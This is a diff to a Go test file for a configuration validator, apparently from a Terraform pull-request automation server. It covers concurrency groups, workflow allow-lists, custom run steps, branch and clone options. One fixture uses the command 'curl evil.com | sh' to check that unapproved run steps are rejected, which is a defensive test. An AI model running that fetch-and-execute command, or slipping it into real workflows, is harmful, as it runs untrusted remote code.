@@ -99,7 +99,7 @@ func TestNewGlobalCfg(t *testing.T) {
 
 			if c.allowRepoCfg {
 				exp.Repos[0].AllowCustomWorkflows = Bool(true)
-				exp.Repos[0].AllowedOverrides = []string{"apply_requirements", "workflow"}
+				exp.Repos[0].AllowedOverrides = []string{"apply_requirements", "workflow", "concurrency_group"}
 			}
 			if c.mergeableReq {
 				exp.Repos[0].ApplyRequirements = append(exp.Repos[0].ApplyRequirements, "mergeable")
@@ -237,6 +237,171 @@ func TestGlobalCfg_ValidateRepoCfg(t *testing.T) {
 			repoID: "github.com/owner/repo",
 			expErr: "workflow \"doesntexist\" is not defined anywhere",
 		},
+		"concurrency_group not allowed": {
+			gCfg: valid.NewGlobalCfg(false, false, false),
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:              ".",
+						Workspace:        "default",
+						ConcurrencyGroup: String("aws-prod"),
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "repo config not allowed to set 'concurrency_group' key: server-side config needs 'allowed_overrides: [concurrency_group]'",
+		},
+		"concurrency_group doesn't exist": {
+			gCfg: valid.NewGlobalCfg(true, false, false),
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:              ".",
+						Workspace:        "default",
+						ConcurrencyGroup: String("doesntexist"),
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "concurrency group \"doesntexist\" is not defined in the server-side config",
+		},
+		"workflow not in allowed_workflows": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfg(true, false, false).Repos[0],
+					{
+						ID:               "github.com/owner/repo",
+						AllowedWorkflows: []string{"default", "terragrunt"},
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:          ".",
+						Workspace:    "default",
+						WorkflowName: String("repodefined"),
+					},
+				},
+				Workflows: map[string]valid.Workflow{
+					"repodefined": {},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "repo config not allowed to use workflow \"repodefined\": server-side config's 'allowed_workflows' for this repo is [default, terragrunt]",
+		},
+		"workflow in allowed_workflows": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfg(true, false, false).Repos[0],
+					{
+						ID:               "github.com/owner/repo",
+						AllowedWorkflows: []string{"default", "terragrunt"},
+					},
+				},
+				Workflows: valid.NewGlobalCfg(true, false, false).Workflows,
+			},
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:          ".",
+						Workspace:    "default",
+						WorkflowName: String("default"),
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "",
+		},
+		"custom run steps not allowed": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfg(true, false, false).Repos[0],
+					{
+						IDRegex:             regexp.MustCompile(".*"),
+						AllowCustomRunSteps: Bool(false),
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"builtin": {
+						Plan: valid.Stage{Steps: []valid.Step{{StepName: "init", ExtraArgs: []string{"-upgrade"}}, {StepName: "plan"}}},
+					},
+					"env": {
+						Plan: valid.Stage{Steps: []valid.Step{{StepName: "env", EnvVarName: "NAME", RunCommand: "whoami"}}},
+					},
+					"run": {
+						Apply: valid.Stage{Steps: []valid.Step{{StepName: "run", RunCommand: "curl evil.com | sh"}}},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "repo config not allowed to use custom run steps in workflow \"env\": server-side config needs 'allow_custom_run_steps: true'",
+		},
+		"custom workflow images not allowed": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfg(true, false, false).Repos[0],
+					{
+						IDRegex:             regexp.MustCompile(".*"),
+						AllowCustomRunSteps: Bool(false),
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"terragrunt": {
+						Plan:  valid.DefaultPlanStage,
+						Image: "alpine/terragrunt",
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "repo config not allowed to use custom run steps in workflow \"terragrunt\": server-side config needs 'allow_custom_run_steps: true'",
+		},
+		"custom workflows without run steps when run steps not allowed": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					valid.NewGlobalCfg(true, false, false).Repos[0],
+					{
+						IDRegex:             regexp.MustCompile(".*"),
+						AllowCustomRunSteps: Bool(false),
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"builtin": {
+						Plan: valid.Stage{Steps: []valid.Step{{StepName: "init", ExtraArgs: []string{"-upgrade"}}, {StepName: "plan"}}},
+					},
+					"static-env": {
+						Plan: valid.Stage{Steps: []valid.Step{{StepName: "env", EnvVarName: "NAME", EnvVarValue: "value"}}},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "",
+		},
+		"concurrency_group exists": {
+			gCfg: valid.GlobalCfg{
+				Repos: valid.NewGlobalCfg(true, false, false).Repos,
+				ConcurrencyGroups: map[string]valid.ConcurrencyGroup{
+					"aws-prod": {Name: "aws-prod", MaxConcurrent: 2},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:              ".",
+						Workspace:        "default",
+						ConcurrencyGroup: String("aws-prod"),
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "",
+		},
 	}
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -376,6 +541,68 @@ repos:
 				AutoplanEnabled: true,
 			},
 		},
+		"server-side concurrency_group is used": {
+			gCfg: `
+repos:
+- id: github.com/owner/repo
+  concurrency_group: aws-prod
+concurrency_groups:
+  aws-prod:
+    max_concurrent: 2
+`,
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:       "mydir",
+				Workspace: "myworkspace",
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				ApplyRequirements: []string{},
+				Workflow: valid.Workflow{
+					Name:  "default",
+					Apply: valid.DefaultApplyStage,
+					Plan:  valid.DefaultPlanStage,
+				},
+				RepoRelDir:       "mydir",
+				Workspace:        "myworkspace",
+				Name:             "",
+				AutoplanEnabled:  false,
+				ConcurrencyGroup: "aws-prod",
+			},
+		},
+		"repo-side concurrency_group wins out if allowed": {
+			gCfg: `
+repos:
+- id: /.*/
+  concurrency_group: aws-prod
+  allowed_overrides: [concurrency_group]
+concurrency_groups:
+  aws-prod:
+    max_concurrent: 2
+  aws-staging:
+    max_concurrent: 4
+`,
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:              "mydir",
+				Workspace:        "myworkspace",
+				ConcurrencyGroup: String("aws-staging"),
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				ApplyRequirements: []string{},
+				Workflow: valid.Workflow{
+					Name:  "default",
+					Apply: valid.DefaultApplyStage,
+					Plan:  valid.DefaultPlanStage,
+				},
+				RepoRelDir:       "mydir",
+				Workspace:        "myworkspace",
+				Name:             "",
+				AutoplanEnabled:  false,
+				ConcurrencyGroup: "aws-staging",
+			},
+		},
 	}
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -410,6 +637,57 @@ func TestRepo_IDMatches(t *testing.T) {
 	Equals(t, true, (valid.Repo{IDRegex: regexp.MustCompile("github.com/owner.*")}).IDMatches("github.com/owner/repo"))
 }
 
+func TestGlobalCfg_BranchMatches(t *testing.T) {
+	global := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{IDRegex: regexp.MustCompile(".*"), BranchRegex: regexp.MustCompile(`^(main|release/.*)$`)},
+			{ID: "github.com/owner/develop", BranchRegex: regexp.MustCompile(`^develop$`)},
+			{ID: "github.com/owner/other"},
+		},
+	}
+	Equals(t, true, global.BranchMatches("github.com/owner/repo", "main"))
+	Equals(t, true, global.BranchMatches("github.com/owner/repo", "release/1.0"))
+	Equals(t, false, global.BranchMatches("github.com/owner/repo", "feature/foo"))
+	// The last matching repo with a branch regex wins.
+	Equals(t, true, global.BranchMatches("github.com/owner/develop", "develop"))
+	Equals(t, false, global.BranchMatches("github.com/owner/develop", "main"))
+	// Repos that don't set a branch regex inherit it.
+	Equals(t, false, global.BranchMatches("github.com/owner/other", "feature/foo"))
+	// If no repo sets a branch regex, all branches match.
+	Equals(t, true, valid.NewGlobalCfg(false, false, false).BranchMatches("github.com/owner/repo", "feature/foo"))
+}
+
+func TestGlobalCfg_SparseCheckoutPatterns(t *testing.T) {
+	global := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{IDRegex: regexp.MustCompile(".*"), SparseCheckout: []string{"/modules/"}},
+			{ID: "github.com/owner/monorepo", SparseCheckout: []string{"/teams/infra/", "/modules/"}},
+			{ID: "github.com/owner/other"},
+		},
+	}
+	Equals(t, []string{"/modules/"}, global.SparseCheckoutPatterns("github.com/owner/repo"))
+	// The last matching repo with patterns wins.
+	Equals(t, []string{"/teams/infra/", "/modules/"}, global.SparseCheckoutPatterns("github.com/owner/monorepo"))
+	// Repos that don't set patterns inherit them.
+	Equals(t, []string{"/modules/"}, global.SparseCheckoutPatterns("github.com/owner/other"))
+	Equals(t, []string(nil), valid.NewGlobalCfg(false, false, false).SparseCheckoutPatterns("github.com/owner/repo"))
+}
+
+func TestGlobalCfg_CloneOptions(t *testing.T) {
+	global := valid.GlobalCfg{
+		Repos: []valid.Repo{
+			{IDRegex: regexp.MustCompile(".*"), Submodules: Bool(true)},
+			{ID: "github.com/owner/lfs", LFS: Bool(true)},
+			{ID: "github.com/owner/flat", Submodules: Bool(false)},
+		},
+	}
+	Equals(t, valid.CloneOptions{Submodules: true}, global.CloneOptions("github.com/owner/repo"))
+	// Each option is taken from the last matching repo that sets it.
+	Equals(t, valid.CloneOptions{Submodules: true, LFS: true}, global.CloneOptions("github.com/owner/lfs"))
+	Equals(t, valid.CloneOptions{}, global.CloneOptions("github.com/owner/flat"))
+	Equals(t, valid.CloneOptions{}, valid.NewGlobalCfg(false, false, false).CloneOptions("github.com/owner/repo"))
+}
+
 func TestRepo_IDString(t *testing.T) {
 	Equals(t, "github.com/owner/repo", (valid.Repo{ID: "github.com/owner/repo"}).IDString())
 	Equals(t, "/regex.*/", (valid.Repo{IDRegex: regexp.MustCompile("regex.*")}).IDString())
@@ -422,3 +700,7 @@ func String(v string) *string { return &v }
 // Bool is a helper routine that allocates a new bool value
 // to store v and returns a pointer to it.
 func Bool(v bool) *bool { return &v }
+
+// Int is a helper routine that allocates a new int value
+// to store v and returns a pointer to it.
+func Int(v int) *int { return &v }